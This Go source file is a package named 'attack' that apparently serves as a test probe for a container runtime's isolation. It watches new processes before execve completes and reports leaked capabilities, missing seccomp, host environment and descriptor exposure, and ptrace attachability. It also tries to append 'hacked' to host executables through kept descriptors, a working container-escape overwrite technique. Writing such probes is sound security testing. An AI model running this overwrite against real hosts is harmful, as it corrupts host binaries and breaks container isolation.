package attack

import (
	"bytes"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

// ahead is how many pids after the last one are tried: threads and short-lived processes take some.
const ahead = 6

// watcher looks at each process that appears in the pid namespace, from its first moment on, by numbers in advance.
type watcher struct {
	allowed uint64
	comm    []byte // processes of this name have become what they are to be
	mine    map[[2]uint64]bool
	buf     [8192]byte
	said    map[string]bool
	kept    []string // descriptors of executables of the host, as paths
}

// watch prints, each once per process:
//
//	window PID        the process was seen before it became the program
//	caps PID SETS     it had capabilities that are not in allowed (hexadecimal)
//	exe PID PATH      its executable is not one of the container's and could be reached
//	fd PID N LINK     a descriptor of it could be reached before it became the program
//	wrote 0 PATH      the executable could be written to
//	environ PID       its environment was that of the runtime's caller
//	unfiltered PID    it had no seccomp filter
//	seized PID        it could be attached to by ptrace(2) before it became the program
func watch(allowed, comm string) error {
	mask, err := strconv.ParseUint(allowed, 16, 64)
	if err != nil {
		return err
	}
	runtime.LockOSThread() // ptrace(2) is by thread
	w := &watcher{allowed: mask, comm: []byte(comm), mine: map[[2]uint64]bool{}, said: map[string]bool{}}
	for _, p := range []string{"/bin/busybox", "/bin/probe"} {
		var st unix.Stat_t
		if err := unix.Stat(p, &st); err != nil {
			return err
		}
		w.mine[[2]uint64{uint64(st.Dev), st.Ino}] = true
	}
	last, err := lastPID()
	if err != nil {
		return err
	}
	fmt.Println("watching")
	var paths [ahead]string
	for first := 0; ; {
		if first != last {
			for i := range paths {
				paths[i] = "/proc/" + strconv.Itoa(last+1+i)
			}
			first = last
		}
		for i, p := range paths {
			if n := w.read(p + "/status"); n > 0 {
				last += 1 + i
				if unix.Access("/proc/self/task/"+strconv.Itoa(last), 0) != nil { // else it is a thread of this process
					w.follow(last, p, n)
				}
				break
			}
		}
		goOn()
		w.overwrite()
	}
}

// maxKept is how many descriptors are kept at most.
const maxKept = 16

// keep opens a file for reading and keeps it.
func (w *watcher) keep(path string) {
	if len(w.kept) == maxKept {
		return
	}
	if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || w.mine[[2]uint64{uint64(st.Dev), st.Ino}] { // it has become the program meanwhile
			unix.Close(fd)
			return
		}
		w.kept = append(w.kept, "/proc/self/fd/"+strconv.Itoa(fd))
	}
}

// overwrite opens what was kept for writing, which succeeds when nothing executes it and its mount is writable.
func (w *watcher) overwrite() {
	for _, p := range w.kept {
		if fd, err := unix.Open(p, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0); err == nil {
			if n, _ := unix.Write(fd, []byte("hacked")); n > 0 {
				w.say("wrote", 0, p)
			}
			unix.Close(fd)
		}
	}
}

// goOn lets a process that was attached to end, or go on when a signal has stopped it.
func goOn() {
	var ws syscall.WaitStatus
	if pid, err := syscall.Wait4(-1, &ws, syscall.WNOHANG|unix.WALL, nil); err == nil && pid > 0 && ws.Stopped() {
		sig := ws.StopSignal()
		if ws>>16 != 0 { // a stop by ptrace(2) itself is no signal of the process
			sig = 0
		}
		syscall.PtraceCont(pid, int(sig))
	}
}

// lastPID is the highest number in /proc.
func lastPID() (int, error) {
	es, err := os.ReadDir("/proc")
	last := 0
	for _, e := range es {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			last = max(last, n)
		}
	}
	// The threads of this process have numbers too.
	ts, _ := os.ReadDir("/proc/self/task")
	for _, e := range ts {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			last = max(last, n)
		}
	}
	return last, err
}

// read reads the start of a file into the buffer, without help of the Go scheduler.
func (w *watcher) read(path string) int {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return 0
	}
	n, _ := unix.Read(fd, w.buf[:])
	unix.Close(fd)
	return n
}

// follow looks at one process until it is the program or gone. n bytes of its status are in the buffer.
func (w *watcher) follow(pid int, dir string, n int) {
	for try := 0; n > 0 && try < 20000; try++ {
		status := w.buf[:n]
		name := field(status, "Name:\t")
		if bytes.Equal(name, w.comm) || bytes.Contains(status, []byte("\nState:\tZ")) {
			return
		}
		w.say("window", pid, "")
		for _, set := range []string{"CapInh:\t", "CapPrm:\t", "CapEff:\t", "CapBnd:\t", "CapAmb:\t"} {
			if v, err := strconv.ParseUint(string(field(status, set)), 16, 64); err == nil && v&^w.allowed != 0 {
				w.say("caps", pid, fmt.Sprintf("%s%016x of a process named %s", set[:7], v, name))
			}
		}
		if bytes.Contains(status, []byte("\nSeccomp:\t0")) {
			w.say("unfiltered", pid, "")
		}
		if n := w.read(dir + "/environ"); bytes.Contains(w.buf[:n], []byte("hostsecret")) {
			w.say("environ", pid, "")
		}
		var st unix.Stat_t
		if unix.Stat(dir+"/exe", &st) == nil && !w.mine[[2]uint64{uint64(st.Dev), st.Ino}] {
			l, _ := os.Readlink(dir + "/exe")
			w.say("exe", pid, l)
			w.keep(dir + "/exe")
		}
		link := w.link(dir)
		_, _, e := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
		goOn()
		n = w.read(dir + "/status")
		if n > 0 && !bytes.Equal(field(w.buf[:n], "Name:\t"), w.comm) { // it was not yet the program all the time
			if link != "" {
				w.say("fd", pid, link)
			}
			// Between the change of memory and of name execve(2) has a moment in which the new program has the old name.
			if e == 0 && unix.Stat(dir+"/exe", &st) == nil && !w.mine[[2]uint64{uint64(st.Dev), st.Ino}] {
				w.say("seized", pid, "")
			}
		}
	}
}

// link is what one of the first descriptors of a process points to, if that can be read; not the streams, which the
// program gets.
func (w *watcher) link(dir string) string {
	var buf [256]byte
	for _, fd := range []string{"3", "4", "5", "6", "7", "8", "9", "10"} {
		if n, err := unix.Readlink(dir+"/fd/"+fd, buf[:]); err == nil {
			return fd + " " + string(buf[:n])
		}
	}
	return ""
}

func (w *watcher) say(what string, pid int, more string) {
	key := what + " " + strconv.Itoa(pid)
	if !w.said[key] {
		w.said[key] = true
		fmt.Println(key, more)
	}
}

func field(status []byte, name string) []byte {
	_, rest, ok := bytes.Cut(status, []byte(name))
	if !ok {
		return nil
	}
	line, _, _ := bytes.Cut(rest, []byte("\n"))
	return line
}
